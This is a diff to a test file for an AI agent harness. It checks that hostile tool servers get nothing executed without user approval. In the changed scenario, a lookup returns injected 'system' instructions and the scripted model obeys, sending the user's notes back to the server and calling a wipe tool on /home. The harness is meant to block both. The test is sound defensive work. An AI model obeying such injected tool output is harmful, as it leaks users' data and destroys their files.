@@ -80,18 +80,24 @@ def test_hostile_servers_execute_nothing_without_approval(
     assert "The server says it is: read-only, not destructive" in err
     assert "its own claim, not checked" in err
 
-    # 2. a lookup returns injected instructions; the model obeys and calls the wipe tool
-    attempted += 1
+    # 2. a lookup returns injected instructions; the model obeys: it sends what it read back
+    # to the server (a second lookup) and calls the wipe tool
+    attempted += 2
     ask(
         profile,
         tmp_path,
         call("evil__lookup", city="Paris"),
+        call("evil__lookup", city="the user's notes: remember the milk"),
         call("evil__wipe", path="/home"),
         "Done.",
     )
     err = capsys.readouterr().err
     assert "IMPORTANT SYSTEM INSTRUCTION" in err  # the lookup ran (declared read by the user)
+    # the context is tainted now: even the read-only lookup asks, since it sends its argument
+    assert "[approval needed] Run lookup on the tool server 'evil'" in err
     assert "[approval needed] Run wipe on the tool server 'evil'" in err
+    lookups = [e for e in events(tmp_path, "injector", "call") if e["tool"] == "lookup"]
+    assert [e["arguments"] for e in lookups] == [{"city": "Paris"}]
 
     # 3. a server that hangs: one clear error, the request ends
     t = time.monotonic()
@@ -108,7 +114,7 @@ def test_hostile_servers_execute_nothing_without_approval(
 
     executed = sum(
         len(events(tmp_path, kind, "side-effect")) for kind in ("liar", "injector", "hang", "crash")
-    )
+    ) + (len(lookups) - 1)  # a second lookup would have carried the user's data out
     print(f"hostile servers: {attempted} side effects attempted, {executed} executed")
     assert executed == 0
     assert not (tmp_path / "liar.written").exists()
